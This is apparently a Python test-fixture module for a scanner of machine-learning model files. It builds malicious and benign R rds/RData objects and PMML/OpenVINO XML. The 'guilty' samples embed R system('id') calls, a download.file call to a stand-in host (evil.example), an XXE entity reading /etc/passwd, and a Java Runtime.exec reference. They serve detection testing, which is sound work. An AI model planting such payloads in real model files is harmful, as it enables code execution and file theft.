"""R's saved objects and models in XML, and XML that is no model."""

# ruff: noqa: E501 - nested items read better in long lines

from __future__ import annotations

import gzip
import struct

NULL = struct.pack(">i", 254)
GLOBAL = struct.pack(">i", 253)


def ints(*values: int) -> bytes:
    return struct.pack(f">{len(values)}i", *values)


def chars(value: str) -> bytes:
    return ints(9 | 0x40000, len(value)) + value.encode()


def symbol(name: str) -> bytes:
    return ints(1) + chars(name)


def text(*values: str) -> bytes:
    return ints(16, len(values)) + b"".join(chars(value) for value in values)


def call(name: str, *arguments: bytes) -> bytes:
    made = NULL
    for argument in reversed(arguments):
        made = ints(2) + argument + made
    return ints(6) + symbol(name) + made


def promise(expression: bytes) -> bytes:
    return ints(5 | 0x400) + GLOBAL + ints(252) + expression


def closure(body: bytes) -> bytes:
    return ints(3 | 0x400) + GLOBAL + NULL + body


def vector(*items: bytes) -> bytes:
    return ints(19, len(items)) + b"".join(items)


def bytecode(*constants: bytes) -> bytes:
    return ints(21, 1) + ints(13, 2, 12, 1) + ints(len(constants)) + b"".join(constants)


def rds(item: bytes, version: int = 3) -> bytes:
    return b"X\n" + ints(version, 0x40302, 0x30500) + (ints(5) + b"UTF-8" if version == 3 else b"") + item


def rdata(item: bytes) -> bytes:
    return b"RDX3\n" + rds(ints(2 | 0x400) + symbol("model") + item + NULL)


RUN = call("system", text("id"))
PMML = '<?xml version="1.0"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{}<DataDictionary/></PMML>'
NET = '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="{}" version="{}"/></layers><edges/></net>'


def guilty() -> dict[str, tuple[str, bytes]]:
    """Guilty files."""
    objects = {
        "a promise": promise(RUN),
        "a promise of something harmless": promise(call("c", text("a"))),
        "a promise in a list": vector(text("a"), promise(RUN)),
        "a promise in an attribute": ints(13 | 0x200, 1, 7) + ints(2 | 0x400) + symbol("names") + promise(RUN) + NULL,
        "a promise in an environment": ints(4, 0) + NULL + ints(2 | 0x400) + symbol("x") + promise(RUN) + NULL + NULL + NULL,
        "a call": RUN,
        "a function": closure(RUN),
        "a function in bytecode": ints(3 | 0x400) + GLOBAL + NULL + bytecode(ints(16) + text("id"), ints(1) + symbol("system")),
        "a call among the constants": ints(3 | 0x400) + GLOBAL + NULL + bytecode(ints(6) + NULL + ints(1) + symbol("pipe") + ints(254) + NULL),
        "a download": closure(call("download.file", text("https://evil.example"))),
        "a finalizer": closure(call("reg.finalizer", symbol("e"), closure(RUN))),
        "a binding": call("makeActiveBinding", text("x")),
        "a promise before the stream breaks": vector(promise(RUN), b"\0\0\0\x63"),
    }
    entity = PMML.format("").replace("<PMML", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML')
    files = {f"r: {case} (rds)": ("model.rds", gzip.compress(rds(item))) for case, item in objects.items()}
    files |= {f"r: {case} (RData)": ("model.RData", rdata(item)) for case, item in objects.items() if case != "a promise before the stream breaks"}
    return files | {
        "r: version 2": ("model.rds", rds(promise(RUN), 2)),
        "pmml: an entity": ("model.pmml", entity.encode()),
        "pmml: an entity under another name": ("model.xml", entity.encode()),
        "pmml: an entity in two bytes": ("model.xml", entity.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")),
        "pmml: a script": ("model.pmml", PMML.format('<Extension name="javascript" value="load(1)"/>').encode()),
        "pmml: a class": ("model.xml", PMML.format('<Apply function="java.lang.Runtime.exec"/>').encode()),
        "openvino: an entity": ("model.xml", NET.format("Add", "opset1").replace("<net", '<!DOCTYPE net SYSTEM "x"><net').encode()),
    }


def innocent() -> dict[str, tuple[str, bytes]]:
    """Innocent files."""
    frame = ints(19 | 0x300, 1) + ints(13, 2, 1, 2) + ints(2 | 0x400) + symbol("names") + text("a") + NULL
    return {
        "r: a table (rds)": ("data.rds", gzip.compress(rds(frame))),
        "r: a table (RData)": ("data.rda", gzip.compress(rdata(frame))),
        "r: a call of nothing harmful": ("fit.rds", rds(call("lm", call("~", symbol("y"), symbol("x"))))),
        "r: a text that says system": ("words.rds", rds(text("system", "eval"))),
        "r: numbers": ("numbers.rds", rds(ints(14, 2) + struct.pack(">2d", 1.0, 2.0), 2)),
        "pmml: plain": ("model.pmml", PMML.format("").encode()),
        "pmml: an extension that is data": ("model.xml", PMML.format('<Extension name="created" value="2026"/>').encode()),
        "pmml: a built-in function": ("model.xml", PMML.format('<Apply function="log10"/>').encode()),
        "openvino: plain": ("model.xml", NET.format("Convolution", "opset1").encode()),
        "xml: a project": ("pom.xml", b'<!DOCTYPE project SYSTEM "x"><project><Extension value="script"/></project>'),
        "xml: a network of another kind": ("map.xml", b'<!DOCTYPE net><net version="1.0"><location/></net>'),
        "xml: no XML at all": ("page.xml", b"<html><br></html"),
        "a text with R's first line": ("notes.dat", b"X\nand more\0"),
    }
